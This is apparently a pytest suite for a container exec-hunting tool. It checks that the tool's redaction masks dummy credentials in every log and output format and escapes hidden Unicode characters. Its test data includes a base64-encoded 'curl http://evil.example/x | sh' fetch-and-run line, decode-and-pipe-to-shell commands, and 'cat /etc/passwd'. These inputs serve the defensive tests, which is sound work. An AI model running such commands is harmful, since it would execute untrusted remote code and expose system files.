"""Secrets never survive redaction, in any source or output format; ordinary commands are left alone.

One table of cases is checked three ways: redact.argv on the argv, redact.text on the same argv as a
shell line, and end to end (k8s audit exec URI, docker exec event, dockerd debug log -> hunt -> table,
jsonl, ocsf bytes).
"""

from __future__ import annotations

import base64
import json
import re
import shlex
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote_plus

import pytest
from typer.testing import CliRunner

from execguard import redact
from execguard.cli import app
from execguard.decode import decoded_blobs
from execguard.model import display
from execguard.redact import MASK

SECRET = "S3cr3tValue42"
JWT = "eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJzdWIiOiJzeXN0ZW06c2EifQ.c2lnbmF0dXJlLXNpZ25hdHVyZQ"
B64_PLAIN = "PGPASSWORD=B64Pw22x psql -h db -c 'select 1'"
B64_BLOB = base64.b64encode(B64_PLAIN.encode()).decode()
PEM_BODY = "MIIEpAIBAAKCAQEA7PemBody16xQ"


@dataclass(frozen=True)
class Case:
    name: str
    argv: list[str]
    secrets: tuple[str, ...]  # none of these may appear in any output
    kept: str = ""  # text that must survive (the user of curl -u, the key name ...)


CASES = [
    Case("curl -u", ["curl", "-u", "bob:CurlPw1x", "https://h/"], ("CurlPw1x",), "bob:[REDACTED]"),
    Case("curl --user", ["curl", "--user", "bob:CurlPw2x", "https://h/"], ("CurlPw2x",), "bob:"),
    Case("curl -uUSER:PASS", ["curl", "-ubob:CurlPw3x", "https://h/"], ("CurlPw3x",)),
    Case("curl -su bundled", ["curl", "-su", "bob:CurlPw4x", "https://h/"], ("CurlPw4x",)),
    Case("curl -U proxy", ["curl", "-U", "px:ProxyPw5x", "-x", "http://p:3128", "https://h/"], ("ProxyPw5x",)),
    Case("curl -u and --proxy-user", ["curl", "-u", "a:CurlPw31", "--proxy-user", "b:ProxyPw32", "https://h/"], ("CurlPw31", "ProxyPw32")),
    Case("curl -u key only", ["curl", "-u", "sk_live_KeyOnly6x:", "https://h/"], ("sk_live_KeyOnly6x",)),
    Case("PGPASSWORD=", ["env", "PGPASSWORD=PgPw7x", "psql", "-h", "db"], ("PgPw7x",), "PGPASSWORD="),
    Case("MYSQL_PWD=", ["env", "MYSQL_PWD=MyPw8x", "mysql", "-u", "root"], ("MyPw8x",), "MYSQL_PWD="),
    Case("redis-cli -a", ["redis-cli", "-h", "r", "-a", "RedisPw9x", "ping"], ("RedisPw9x",), "ping"),
    Case("redis-cli AUTH", ["redis-cli", "-h", "r", "AUTH", "default", "RedisPw10"], ("RedisPw10",)),
    Case("REDISCLI_AUTH=", ["env", "REDISCLI_AUTH=RedisPw11", "redis-cli"], ("RedisPw11",)),
    Case("docker login -p", ["docker", "login", "-u", "bob", "-p", "DockerPw12", "reg.io"], ("DockerPw12",), "reg.io"),
    Case("docker login --password", ["docker", "login", "--password", "DockerPw13", "reg.io"], ("DockerPw13",), "reg.io"),
    Case("docker login --password=", ["docker", "login", "-u", "bob", "--password=DockerPw14", "reg.io"], ("DockerPw14",)),
    Case("podman login -pX", ["podman", "login", "-pDockerPw15", "reg.io"], ("DockerPw15",)),
    Case("Cookie:", ["curl", "-H", "Cookie: session=CookieVal16; theme=CookieVal17", "https://h/"], ("CookieVal16", "CookieVal17")),
    Case("Set-Cookie:", ["curl", "-H", "Set-Cookie: sid=CookieVal18; Path=/; HttpOnly", "https://h/"], ("CookieVal18",)),
    Case("curl -b", ["curl", "-b", "sid=CookieVal19", "https://h/"], ("CookieVal19",)),
    Case("vault hvs.", ["vault", "login", "hvs.CAESIJ3xRkVaultTok20abcdefGh1"], ("CAESIJ3xRkVaultTok20abcdefGh1",), "hvs."),
    Case("vault s.", ["vault", "login", "s.Ab1dEfGhIjKlMnOpQrStUvWx"], ("Ab1dEfGhIjKlMnOpQrStUvWx",)),
    Case("X-Vault-Token", ["curl", "-H", "X-Vault-Token: hvs.CAESIVaultTok21abcdefghij", "https://v/"], ("VaultTok21",)),
    Case(
        "PEM key",
        ["sh", "-c", f"printf '-----BEGIN RSA PRIVATE KEY-----\\n{PEM_BODY}\\n-----END RSA PRIVATE KEY-----\\n' > /root/k"],
        (PEM_BODY,),
        "/root/k",
    ),
    Case("PEM, newlines", ["tee", f"-----BEGIN OPENSSH PRIVATE KEY-----\n{PEM_BODY}\n-----END OPENSSH PRIVATE KEY-----"], (PEM_BODY,)),
    Case("PEM key, cut off", ["echo", f"-----BEGIN EC PRIVATE KEY-----\n{PEM_BODY}"], (PEM_BODY,)),
    Case("--token=", ["kubectl", "--token=TokFlag23", "get", "pods"], ("TokFlag23",), "get pods"),
    Case("--token X", ["helm", "--token", "TokFlag24", "list"], ("TokFlag24",), "list"),
    Case("--password=", ["mytool", "--password=PwFlag25", "run"], ("PwFlag25",)),
    Case("--api-token X", ["tool", "--api-token", "PwFlag26"], ("PwFlag26",)),
    Case("quoted --password 'X'", ["sh", "-c", "tool --password 'PwFlag27' && tool --token=\"PwFlag28\""], ("PwFlag27", "PwFlag28")),
    Case("secret in base64", ["sh", "-c", f"echo {B64_BLOB} | base64 -d | sh"], ("B64Pw22x", B64_BLOB)),
    Case(
        "kubectl --from-literal",
        ["kubectl", "create", "secret", "generic", "db", "--from-literal=user=admin", "--from-literal", "pw=Literal33x"],
        ("Literal33x",),
        "pw=[REDACTED]",
    ),
    Case("bearer", ["curl", "-H", f"Authorization: Bearer {SECRET}", "http://x"], (SECRET,)),
    Case("jwt", ["kubectl", f"--token={JWT}", "get", "pods"], (JWT,)),
    Case("mysql -p", ["mysql", "-uroot", "-pMysqlPw29", "db"], ("MysqlPw29",), "-uroot"),
    Case("url credentials", ["git", "clone", "https://bob:UrlPw30@github.com/x/y"], ("UrlPw30",), "github.com/x/y"),
]

HARMLESS_BLOB = base64.b64encode(b"curl http://evil.example/x | sh").decode()
UNTOUCHED = [
    ["ps", "-u", "root"],
    ["sort", "-u", "names.txt"],
    ["find", "/", "-perm", "-4000", "-print"],
    ["mkdir", "-p", "/tmp/x"],
    ["mysql", "-u", "root", "-p"],
    ["docker", "run", "-p", "8080:80", "nginx"],
    ["docker", "login", "--password-stdin", "-u", "bob", "reg.io"],
    ["curl", "-sSL", "https://example.com/install.sh"],
    ["curl", "--url", "https://example.com/", "-o", "/tmp/u"],
    ["redis-cli", "-h", "r", "ping"],
    ["env", "PWD=/srv/app", "OLDPWD=/", "ls"],
    ["ls", "-la", "--password-file=/etc/x"],
    ["cat", "/etc/passwd"],
    ["kubectl", "get", "secrets", "-n", "kube-system"],
    ["grep", "-ri", "cookies", "."],
    ["vi", "s.txt", "notes.md"],
    ["sh", "-c", f"echo {HARMLESS_BLOB} | base64 -d | sh"],
]


def _line(case: Case) -> str:
    return shlex.join(case.argv)


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
def test_argv_case(case: Case) -> None:
    out = redact.argv(case.argv)
    joined = "\n".join(out)
    for secret in case.secrets:
        assert secret not in joined
    assert MASK in joined
    assert case.kept in " ".join(out)
    assert redact.argv(out) == out


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
def test_text_case(case: Case) -> None:
    """The same argv as one shell line (sh -c '...', kubelet /run cmd=...)."""
    out = redact.text(_line(case))
    for secret in case.secrets:
        assert secret not in out
    assert MASK in out
    assert redact.text(out) == out


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
def test_split_on_white_space(case: Case) -> None:
    """docker events and kubelet /run split the command on white space: a secret split so is masked too."""
    out = redact.argv(_line(case).split())
    for secret in case.secrets:
        assert all(secret not in a for a in out)
    assert any(MASK in a for a in out)


@pytest.mark.parametrize("argv", UNTOUCHED, ids=" ".join)
def test_ordinary_commands_untouched(argv: list[str]) -> None:
    assert redact.argv(argv) == argv
    assert redact.text(shlex.join(argv)) == shlex.join(argv)


def test_harmless_blob_still_decoded() -> None:
    assert "curl http://evil.example/x | sh" in decoded_blobs(redact.argv(["sh", "-c", f"echo {HARMLESS_BLOB} | base64 -d | sh"]))


def test_secret_blob_stays_decodable() -> None:
    """The blob itself is masked, but what it runs can still be matched by rules."""
    out = redact.argv(["sh", "-c", f"echo {B64_BLOB} | base64 -d | sh"])
    assert B64_BLOB not in out[2] and MASK in out[2]
    decoded = decoded_blobs(out)
    assert "psql -h db" in decoded and "PGPASSWORD=[REDACTED]" in decoded and "B64Pw22x" not in decoded
    nested = base64.b64encode(f"echo {B64_BLOB} | base64 -d | sh".encode()).decode()
    out = redact.argv(["sh", "-c", f"echo {nested} | base64 -d | sh"])
    assert nested not in out[2] and "B64Pw22x" not in decoded_blobs(out)


def test_user_of_curl_kept() -> None:
    assert redact.argv(["curl", "-u", "bob:pw", "h"]) == ["curl", "-u", f"bob:{MASK}", "h"]
    assert redact.argv(["curl", "--user", "bob", "h"]) == ["curl", "--user", MASK, "h"]


def test_argv() -> None:
    assert redact.argv(["mysql", "-uroot", f"-p{SECRET}"]) == ["mysql", "-uroot", f"-p{MASK}"]
    assert redact.argv(["app", "--password", SECRET, "--x"]) == ["app", "--password", MASK, "--x"]
    assert redact.argv(["sshpass", "-p", SECRET, "ssh"]) == ["sshpass", "-p", MASK, "ssh"]
    assert redact.argv(["env", f"GITHUB_TOKEN={SECRET}"]) == ["env", f"GITHUB_TOKEN={MASK}"]
    assert redact.argv(["curl", "-H", "Authorization:", "Bearer", SECRET]) == ["curl", "-H", "Authorization:", "Bearer", MASK]
    assert redact.argv([]) == []


TEXTS = [
    f"curl -H 'Authorization: Bearer {SECRET}' https://api",
    f"curl -H Authorization:%20Bearer%20{SECRET}",
    f"Authorization: {SECRET}",
    f"wget --header=Authorization:{SECRET} x",
    f"sh -c 'mysqldump -p{SECRET} --all-databases'",
    f"sshpass -p {SECRET} ssh root@h",
    f"DB_PASSWORD={SECRET} MYSQL_ROOT_PASSWORD={SECRET} ./run",
    f"export AWS_SECRET_ACCESS_KEY={SECRET}",
    f'{{"password": "{SECRET}", "user": "bob"}}',
    f"/api/v1/namespaces/d/pods/p/exec?command=mysql&command=-p{SECRET}&container=c",
    f"/api/v1/namespaces/d/pods/p/exec?command=app&command=--password&command={SECRET}",
    f"/api/v1/namespaces/d/pods/p/exec?command=sh&command=-c&command=PASSWORD%3D{SECRET}+app",
    f"/api/v1/nodes/n/proxy/run/ns/p/c?cmd=mysql+-p{SECRET}",
    f"/api/v1/nodes/n/proxy/run/ns/p/c?cmd=curl+-u+bob%3A{SECRET}+h",
    f"/api/v1/namespaces/d/pods/p/exec?command=curl&command=-H&command=Authorization%3A+Bearer+{SECRET}",
    f"/api/v1/namespaces/d/pods/p/exec?command=sh&command=-c&command={quote_plus(base64.b64encode(f'TOKEN={SECRET} x'.encode()).decode())}",
    f"https://h/x?token={SECRET}&a=1",
    f"https://bob:{SECRET}@h/x?a=1",
]


@pytest.mark.parametrize("value", TEXTS)
def test_secret_masked(value: str) -> None:
    out = redact.text(value)
    assert SECRET not in out
    assert MASK in out or quote_plus(MASK) in out
    assert redact.text(out) == out


@pytest.mark.parametrize("token", [JWT, "AKIAIOSFODNN7EXAMPLE", "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"])
def test_token_formats(token: str) -> None:
    out = redact.text(f"echo {token} | sh")
    assert token not in out and MASK in out


# ---- end to end: real input records -> hunt -> every output format ------------------------------------


def _k8s(i: int, argv: list[str]) -> str:
    q = "&".join(f"command={quote_plus(a)}" for a in argv)
    return json.dumps(
        {
            "kind": "Event",
            "apiVersion": "audit.k8s.io/v1",
            "auditID": f"audit-{i}",
            "stage": "ResponseStarted",
            "verb": "create",
            "requestURI": f"/api/v1/namespaces/prod/pods/web-{i}/exec?{q}&container=app&stdin=true&tty=true",
            "user": {"username": "alice", "groups": ["system:authenticated"]},
            "sourceIPs": ["10.1.2.3"],
            "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "prod", "name": f"web-{i}"},
            "responseStatus": {"code": 101},
            "stageTimestamp": "2024-05-01T10:00:00.000000Z",
        }
    )


def _docker_event(i: int, argv: list[str]) -> str:
    # the daemon joins the argv with spaces in Action
    action = "exec_start: " + " ".join(argv)
    attrs = {"execID": f"{i:064x}", "image": "local/bb:1", "name": "web"}
    return json.dumps({"status": action, "id": "3a" * 32, "from": "local/bb:1", "Type": "container", "Action": action,
                       "Actor": {"ID": "3a" * 32, "Attributes": attrs}, "scope": "local", "time": 1795923424})  # fmt: skip


def _dockerd_log(i: int, argv: list[str]) -> str:
    t = f'time="2026-11-29T03:37:{i:02d}.000000000Z" level=debug'
    body = json.dumps({"AttachStderr": True, "AttachStdin": False, "AttachStdout": True, "Cmd": argv, "Env": None,
                       "Privileged": False, "Tty": False, "User": "", "WorkingDir": ""}, separators=(",", ":"))  # fmt: skip
    start = json.dumps({"Detach": False, "Tty": False}, separators=(",", ":"))
    return "\n".join(
        [
            f'{t} msg="Calling POST /v1.41/containers/web/exec"',
            f"{t} msg={json.dumps('form data: ' + body)}",
            f'{t} msg="Calling POST /v1.41/exec/{i:064x}/start"',
            f"{t} msg={json.dumps('form data: ' + start)}",
        ]
    )


def _falco(i: int, argv: list[str]) -> str:
    # Falco joins the argv with spaces in proc.cmdline; a process the runtime started, so every case alerts
    fields = {"evt.type": "execve", "proc.cmdline": " ".join(argv), "proc.name": argv[0], "proc.pid": 100 + i,
              "proc.pname": "runc", "container.id": "3f1c2a9b7e4d", "k8s.ns.name": "prod", "k8s.pod.name": f"web-{i}"}  # fmt: skip
    return json.dumps({"output": "x", "priority": "Notice", "rule": "Terminal shell in container",
                       "time": f"2026-11-26T20:00:{i:02d}Z", "output_fields": fields})  # fmt: skip


def _kubearmor(i: int, argv: list[str]) -> str:
    return json.dumps({"Timestamp": 1795723200 + i, "NamespaceName": "prod", "PodName": f"web-{i}", "ContainerID": "3f" * 32,
                       "ContainerName": "web", "HostPID": 100 + i, "PID": 40 + i, "ProcessName": argv[0],
                       "ParentProcessName": "/usr/bin/runc", "Source": "/usr/bin/runc", "Operation": "Process",
                       "Resource": " ".join(argv), "Data": "syscall=SYS_EXECVE", "Type": "ContainerLog", "Result": "Passed"})  # fmt: skip


def _auditd(i: int, argv: list[str]) -> str:
    # auditd writes every argument in hex here (the form it uses for anything holding a space or quote)
    stamp = f"audit(1795723200.{i:03d}:{500 + i})"
    args = " ".join(f"a{n}={a.encode().hex().upper()}" for n, a in enumerate(argv))
    return "\n".join([
        f'type=SYSCALL msg={stamp}: arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid={100 + i} auid=1000 uid=0 comm="x" exe="/bin/x"',
        f"type=EXECVE msg={stamp}: argc={len(argv)} {args}",
        f"type=EOE msg={stamp}: ",
    ])  # fmt: skip


BUILDERS = {
    "k8s-audit": ("audit.log", _k8s),
    "docker-events": ("events.jsonl", _docker_event),
    "dockerd-log": ("dockerd.log", _dockerd_log),
    "falco": ("falco.jsonl", _falco),
    "kubearmor": ("kubearmor.jsonl", _kubearmor),
    "auditd": ("audit.log", _auditd),
}
# a process event alerts only when a rule says so: for these formats every process is an alert here
PROCESS_RULE = """title: every process
id: 0b7c4a52-5f61-4c1e-9d1c-6f2f0f3e8a11
reason: 'process {command.line}'
logsource: {category: process_creation}
detection: {selection: {action: process}, condition: selection}
level: low
"""


@pytest.fixture(scope="module", params=list(BUILDERS))
def hunted(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """Every case as one input file of a format, hunted once per output format."""
    name, build = BUILDERS[request.param]
    path: Path = tmp_path_factory.mktemp(request.param) / name
    path.write_text("\n".join(build(i, c.argv) for i, c in enumerate(CASES)) + "\n")
    runner = CliRunner()
    outs: dict[str, Any] = {"format": request.param}
    # the table as blocks (under 160 columns) and as a table wide enough that no cell folds
    runs = (("table", "table", "100"), ("table-wide", "table", "3000"), ("jsonl", "jsonl", "100"), ("ocsf", "ocsf", "100"),
            ("html", "html", "100"))  # fmt: skip
    extra: list[str] = []
    if request.param in ("falco", "kubearmor", "auditd"):
        rules = path.parent / "rules"
        rules.mkdir()
        (rules / "every_process.yml").write_text(PROCESS_RULE)
        extra = ["--rules", str(rules)]
    for key, fmt, columns in runs:
        args = ["hunt", "-o", fmt, "--min-severity", "info", *extra, str(path)]
        res = runner.invoke(app, args, catch_exceptions=False, env={"COLUMNS": columns})
        assert res.exit_code == 0, res.stderr
        outs[key] = (res.stdout_bytes, res.stderr_bytes)
    return outs


@pytest.mark.parametrize("fmt", ["table", "table-wide", "jsonl", "ocsf", "html"])
def test_no_secret_in_any_output(hunted: dict[str, Any], fmt: str) -> None:
    out, err = hunted[fmt]
    if fmt == "html":  # the report's data as the page reads it, JSON escapes undone
        out += json.dumps(report_data(out), ensure_ascii=False).encode()
    assert MASK.encode() in out
    # blocks fold long values onto indented lines: without white space a folded secret is whole again
    unfolded = re.sub(rb"\s+", b"", out)
    for case in CASES:
        for secret in case.secrets:
            assert secret.encode() not in out, (hunted["format"], fmt, case.name)
            assert secret.encode() not in unfolded, (hunted["format"], fmt, case.name)
            assert secret.encode() not in err, (hunted["format"], fmt, case.name)


def test_every_case_alerts_with_a_mark(hunted: dict[str, Any]) -> None:
    """Each case gives an alert whose command carries the mark: the checks above are not vacuous."""
    alerts = [json.loads(x) for x in hunted["jsonl"][0].splitlines()]
    assert len(alerts) == len(CASES)
    for case, alert in zip(CASES, alerts, strict=True):
        assert MASK in " ".join(alert["command"]), case.name
    findings = [json.loads(x) for x in hunted["ocsf"][0].splitlines()]
    assert len(findings) == len(CASES)
    for case, finding in zip(CASES, findings, strict=True):
        assert MASK in finding["evidences"][0]["process"]["cmd_line"], case.name


# ---- characters that hide or reorder text -----------------------------------------------------------

RLO, LRI, PDI, ZWSP = "\u202e", "\u2066", "\u2069", "\u200b"


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        (f"cat /etc/{RLO}dwssap", "cat /etc/\\u202edwssap"),
        (f"ls {LRI}x{PDI}", "ls \\u2066x\\u2069"),
        (f"c{ZWSP}url", "c\\u200burl"),
        ("echo \x1b[2J\x07", "echo \\x1b[2J\\x07"),
        ("a\nb\tc\r", "a\\nb\\x09c\\x0d"),
        ("\ufeffsh \u2028x \U000e0041", "\\ufeffsh \\u2028x \\U000e0041"),
        ("\u0085 \u00ad \u061c", "\\x85 \\xad \\u061c"),
        ("café 中文 — ok \\u202e", "café 中文 — ok \\u202e"),
    ],
)
def test_display_escapes(raw: str, shown: str) -> None:
    assert display(raw) == shown


def test_bidi_in_every_output(tmp_path: Path) -> None:
    """Table and reasons show escapes; jsonl/ocsf keep the exact argv and add an escaped display form."""
    argv = ["sh", "-c", f"echo {RLO}hs.lave{ZWSP} | sh"]
    path = tmp_path / "audit.log"
    path.write_text(_k8s(1, argv) + "\n")
    runner = CliRunner()
    outs = {}
    for fmt in ("table", "jsonl", "ocsf"):
        res = runner.invoke(app, ["hunt", "-o", fmt, str(path)], catch_exceptions=False, env={"COLUMNS": "100"})
        assert res.exit_code == 0
        outs[fmt] = res.stdout
    assert RLO not in outs["table"] and ZWSP not in outs["table"] and "\\u202ehs.lave\\u200b" in re.sub(r"\s+", "", outs["table"])
    alert = json.loads(outs["jsonl"])
    assert alert["command"] == argv
    assert alert["command_display"] == "sh -c echo \\u202ehs.lave\\u200b | sh"
    assert alert["reasons"] and all(RLO not in r and ZWSP not in r for r in alert["reasons"])
    assert any(alert["command_display"] in r for r in alert["reasons"])
    finding = json.loads(outs["ocsf"])
    assert finding["evidences"][0]["process"]["cmd_line"] == alert["command_display"]
    assert RLO not in finding["message"] and RLO not in finding["finding_info"]["desc"]
    assert finding["unmapped"]["execguard"]["command"] == argv


def report_data(html: bytes) -> Any:
    """The JSON blob of an HTML report."""
    m = re.search(rb'<script type="application/json" id="report-data">(.*?)</script>', html, re.S)
    assert m is not None
    return json.loads(m.group(1))


def test_every_pattern_compiles_when_first_needed() -> None:
    """The patterns are compiled on first use (redact._pattern), not at import: each must still compile, and
    the key=value pattern keeps its place (a URI path with no value in sight skips it)."""
    compiled = [redact._pattern(i) for i in range(len(redact._PATTERNS))]
    assert all(isinstance(p, re.Pattern) and "s" in p.groupindex for p in compiled)
    assert redact._PATTERNS[redact._KEY_VALUE][1] == redact._KEY_WORDS
    assert redact._pattern(0) is compiled[0]  # once
